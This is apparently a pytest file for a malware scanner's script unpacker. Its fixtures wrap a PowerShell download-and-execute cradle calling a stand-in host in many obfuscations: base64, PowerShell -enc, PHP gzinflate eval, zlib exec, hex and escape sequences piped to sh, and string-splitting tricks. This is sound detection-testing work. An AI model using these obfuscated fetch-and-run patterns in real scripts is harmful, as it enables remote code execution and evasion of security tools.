"""Behaviour of what is unpacked from the text of scripts."""

import base64
import gzip
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.inside import zipped
from support.parts import contents, named

from clearward.core.limits import Limits
from clearward.core.part import Part
from clearward.core.reader import Cursor, Reader
from clearward.core.reasons import Reason
from clearward.engine.scan import Engine
from clearward.formats.scripts.blobs import unescaped
from clearward.formats.unpack import scripts
from clearward.rules.compile import compile_rules

TEXT = (
    b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://a.example/x')"
)

NO_RULES = compile_rules([], test_file=False)[0]


def deflated(data: bytes) -> bytes:
    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packing.compress(data) + packing.flush()


def parts(text: bytes) -> list[tuple[bytes, bytes]]:
    reader = Reader.of(text)
    assert scripts.recognises(text[:65536], reader)
    return named(scripts.unpack(Cursor(reader)))


PACKED = (
    b"eval(function(p,a,c,k,e,d){return p}"
    b"('0 1=2(\\'3\\');',4,4,'var|x|eval|bad'.split('|'),0,{}))"
)
B64 = base64.b64encode(TEXT)
BLOBS = [
    (
        "PowerShell",
        b"powershell -enc " + base64.b64encode(TEXT.decode().encode("utf-16-le")),
    ),
    ("a string", b"[Convert]::FromBase64String('" + B64 + b"')"),
    (
        "PHP",
        b"<?php eval(gzinflate(base64_decode('"
        + base64.b64encode(deflated(TEXT))
        + b"')));",
    ),
    (
        "zlib",
        b"exec(zlib.decompress(b64decode('"
        + base64.b64encode(zlib.compress(TEXT))
        + b"')))",
    ),
    ("hexadecimal", b"bytes.fromhex('" + TEXT.hex().encode() + b"')"),
    ("numbers", b"[byte[]](" + b",".join(b"%d" % one for one in TEXT) + b")"),
    (
        "hexadecimal numbers",
        b"new Uint8Array([" + b", ".join(b"0x%02x" % one for one in TEXT) + b"])",
    ),
    ("escapes", b"printf '" + b"".join(b"\\x%02x" % one for one in TEXT) + b"' | sh"),
    (
        "percent signs",
        b"unescape('" + b"".join(b"%%%02x" % one for one in TEXT) + b"')",
    ),
    ("backwards", b"x = '" + base64.b64encode(TEXT + b".")[::-1] + b"'"),
    ("lines", b"base64 -d <<E | sh\n" + base64.encodebytes(TEXT) + b"E\n"),
    ("entities", b'<a b="' + B64[:40] + b"&#xA;" + B64[40:] + b'"/>'),
    ("twice", b"decode(decode('" + base64.b64encode(B64) + b"'))"),
    (
        "pieces",
        b"x = '"
        + b"' +\n  '".join(B64[at : at + 40] for at in range(0, len(B64), 40))
        + b"'",
    ),
]


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in BLOBS])
def test_a_blob_is_decoded(text: bytes) -> None:
    found = [content for _, content in parts(text)]
    assert any(content.rstrip(b".") == TEXT for content in found), found


def test_a_blob_is_named_by_what_decoded_it_and_its_place() -> None:
    (blob,) = parts(b"atob('" + B64 + b"')")
    assert blob == (b"base64@6", TEXT)


def test_a_packed_file_in_base64_is_a_part() -> None:
    packed = gzip.compress(TEXT, mtime=0)
    assert (b"base64@1", packed) in parts(b"'" + base64.b64encode(packed) + b"'")


@pytest.mark.parametrize(
    ("text", "joined"),
    [
        (b'$a = "Inv"+"oke-Ex"+"pressi"+"on"', b'"Invoke-Expression"'),
        (b"a = 'po' . 'we' . 'rs' . 'he' . 'll' . 'exe'", b'"powershellexe"'),
        (
            b'x = Chr(87) & Chr(83) & ChrW(&H63) & "ript" & _\r\n ".Sh" & "ell"',
            b'"WScript.Shell"',
        ),
        (b"[char]0x69+[char](100+1)+[char]120", b'"iex"'),
        (b"eval(String.fromCharCode(97,108,101,114,116))", b'eval("alert")'),
        (b"p^o^w^e^r^s^h^e^l^l -c ca^lc", b"powershell -c calc"),
        (b"I`n`v`oke-Ex`press`ion $a", b"Invoke-Expression $a"),
        (b"&('{2}{0}{1}' -f 'b','c','a')", b'"abc"'),
        (b"a = ['po','we','rsh','ell'].join('')", b'"powershell"'),
        (b"iex ('po','wer','shell' -join '')", b'"powershell"'),
        (b'a = StrReverse("llehS.tpircSW")', b'"WScript.Shell"'),
        (b"str_rot13('riny'); strrev('lave')", b'"eval"; "eval"'),
        (b"strrev('x'); 'WSXcriptX'.replace('X','')", b'"WScript"'),
        (b'var s = "\\x57\\x53\\x63\\x72\\x69\\x70\\x74";', b'"WScript"'),
        (
            b"set abc=xyzcalcexe\r\n%abc:~3,1%%abc:~4,1%%abc:~-5,2%.%abc:~-3%\r\n",
            b"calc.exe",
        ),
        (b"set q=WScr\r\nset r=ipt\r\necho %q%%r% %q:~0,1%\r\n", b"WScript W"),
        (
            PACKED,
            b"var x=eval('bad');",
        ),
    ],
)
def test_words_taken_apart_are_put_together(text: bytes, joined: bytes) -> None:
    assert any(joined in content for name, content in parts(text) if name == b"joined")


def test_of_a_long_text_only_what_is_around_a_change_is_shown() -> None:
    text = (
        b"plain text\n" * 20_000
        + b'"po"+"wer"+"shell"+"exe"\n'
        + b"more text\n" * 20_000
    )
    ((name, content),) = parts(text)
    assert name == b"joined"
    assert b'"powershellexe"' in content
    assert len(content) < 20_000


def test_utf_16_is_read_as_letters() -> None:
    text = ('x = "' + B64.decode() + '"').encode("utf-16-le")
    assert (b"base64@5", TEXT) in parts(text)
    assert (b"base64@5", TEXT) in parts(b"\xff\xfe" + text) or parts(b"\xff\xfe" + text)


@pytest.mark.parametrize(
    "text",
    [
        b"\0\1\2" * 4 + B64,
        b"From: a@a.example\r\nTo: b@b.example\r\nSubject: c\r\n\r\n" + B64,
        b"%PDF-1.4\n" + B64,
        b"plain words",
        B64 + b"\n",
        b"",
    ],
)
def test_what_is_no_script_or_opened_otherwise_is_left(text: bytes) -> None:
    assert not scripts.recognises(text, Reader.of(text))


def test_endless_nesting_of_decoders_is_linear() -> None:
    text = b'"a"+"b"' * 50_000 + b"Chr(65)&" * 20_000 + b"[char]65+" * 20_000
    assert contents(scripts.unpack(Cursor(Reader.of(text))))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from([text for _, text in BLOBS])
        | st.sampled_from(
            [b'"a"+"b"', b"Chr(", b"\\x4", b"%u12", b"'", b'"', b"{1}{0}"]
        )
        | st.binary(max_size=20),
        max_size=12,
    )
)
def test_anything_gives_parts_of_bounded_size(pieces: list[bytes]) -> None:
    data = b"".join(pieces)
    for item in scripts.unpack(Cursor(Reader.of(data))):
        assert isinstance(item, Part)
        assert sum(map(len, contents([item]))) <= 1100 * len(data) + 1024


@pytest.mark.parametrize(
    ("text", "bytes_"),
    [
        (rb"\x41\x42", b"AB"),
        (b"%41BC%zz", b"ABC%zz"),
        (b"%zz%41", b"%zzA"),
        (b"%u4142", b"BA"),
        (rb"\u0041\u00e4", "A\xe4".encode()),
        (rb"\101\12", b"A\n"),
        (b"&#65;&#x42;", b"AB"),
        (b"&#99999;", chr(99999 & 0xFFFF).encode("utf-8", "surrogatepass")),
    ],
)
def test_escapes_stand_for_bytes(text: bytes, bytes_: bytes) -> None:
    assert unescaped(text) == bytes_


ZIPPED = zipped({"a": TEXT * 9, "b": bytes(range(256)) * 9, "c": TEXT})
BROKEN = ZIPPED.replace(b"b" + deflated(bytes(range(256)) * 9)[:9], b"b" + b"\xff" * 9)
GUESSED = [
    pytest.param(TEXT, 0, id="text"),
    pytest.param(b"\x1f\x8b\x08" + b"\xff" * 99, 0, id="looks like gzip"),
    pytest.param(b"PK\3\4" + b"\xff" * 99, 0, id="looks like zip"),
    pytest.param(gzip.compress(TEXT * 99)[:-20], Reason.TRUNCATED, id="gzip cut short"),
    pytest.param(ZIPPED[:-90], Reason.TRUNCATED, id="zip cut short"),
    pytest.param(BROKEN, Reason.CORRUPT, id="member damaged"),
    pytest.param(zipped({"a": BROKEN}), Reason.CORRUPT, id="damaged deeper"),
]


@pytest.mark.parametrize(("content", "reason"), GUESSED)
def test_damage_in_what_was_guessed_is_said_once_something_came_of_it(
    content: bytes, reason: Reason | int
) -> None:
    engine = Engine(NO_RULES, Limits(), lambda: 0.0)
    text = b"x = atob('" + base64.b64encode(content) + b"')"
    assert bool(engine.scan(Reader.of(text)).reasons & reason) == bool(reason)
    assert bool(engine.scan(Reader.of(text)).reasons) == bool(reason)
